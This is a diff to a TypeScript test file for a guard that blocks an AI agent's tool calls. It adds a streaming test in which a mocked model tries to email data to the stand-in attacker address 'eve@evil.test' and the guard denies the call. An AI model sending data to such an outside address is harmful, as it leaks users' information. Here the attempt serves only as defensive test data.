@@ -6,7 +6,7 @@
  */
 import { createOpenAICompatible } from "@ai-sdk/openai-compatible";
 import { generateText, type ModelMessage, stepCountIs, streamText, tool } from "ai";
-import { MockLanguageModelV3 } from "ai/test";
+import { convertArrayToReadableStream, MockLanguageModelV3 } from "ai/test";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { z } from "zod";
 import { createGuard, type Guard } from "../../guard.js";
@@ -15,6 +15,13 @@ import { guardTools, type WardenRefusal, WardenToolDeniedError } from "./index.j
 
 type Prompt = Parameters<MockLanguageModelV3["doGenerate"]>[0]["prompt"];
 type Content = Awaited<ReturnType<MockLanguageModelV3["doGenerate"]>>["content"];
+type StreamPart =
+  Awaited<ReturnType<MockLanguageModelV3["doStream"]>>["stream"] extends ReadableStream<infer P> ? P : never;
+
+const USAGE = {
+  inputTokens: { total: 1, noCache: 1, cacheRead: undefined, cacheWrite: undefined },
+  outputTokens: { total: 1, text: 1, reasoning: undefined },
+};
 
 let guard: Guard;
 beforeAll(async () => {
@@ -36,10 +43,7 @@ function scriptedModel(steps: ((prompt: Prompt) => Content)[]) {
       return {
         content,
         finishReason: { unified: calls ? "tool-calls" : "stop", raw: undefined },
-        usage: {
-          inputTokens: { total: 1, noCache: 1, cacheRead: undefined, cacheWrite: undefined },
-          outputTokens: { total: 1, text: 1, reasoning: undefined },
-        },
+        usage: USAGE,
         warnings: [],
       };
     },
@@ -208,6 +212,44 @@ describe("guardTools (throw mode)", () => {
     expect(denied.decision.violations.map((v) => v.ruleId)).toContain("tool.email-internal-only");
     expect(sent).toEqual([]);
     expect(model.doGenerateCalls).toHaveLength(1);
+  });
+
+  it("with streamText, ends the run with the error as the stream's error part (and onError)", async () => {
+    const sent: unknown[] = [];
+    let streams = 0;
+    const model = new MockLanguageModelV3({
+      doStream: async () => {
+        streams++;
+        return {
+          stream: convertArrayToReadableStream<StreamPart>([
+            {
+              type: "tool-call",
+              toolCallId: "s1",
+              toolName: "email_send",
+              input: '{"email":"eve@evil.test","body":"x"}',
+            },
+            { type: "finish", finishReason: { unified: "tool-calls", raw: undefined }, usage: USAGE },
+          ]),
+        };
+      },
+    });
+    const errors: unknown[] = [];
+    const result = streamText({
+      model,
+      tools: guardTools({ tools: emailTools(sent), guard, mode: "throw" }),
+      prompt: "Send it.",
+      stopWhen: stepCountIs(3),
+      onError: ({ error }) => {
+        errors.push(error);
+      },
+    });
+    const types: string[] = [];
+    for await (const part of result.fullStream) types.push(part.type);
+    expect(types).toContain("error");
+    expect(errors).toHaveLength(1);
+    expect(WardenToolDeniedError.is(errors[0])).toBe(true);
+    expect(sent).toEqual([]);
+    expect(streams).toBe(1);
   });
 
   it("lets allowed calls run", async () => {
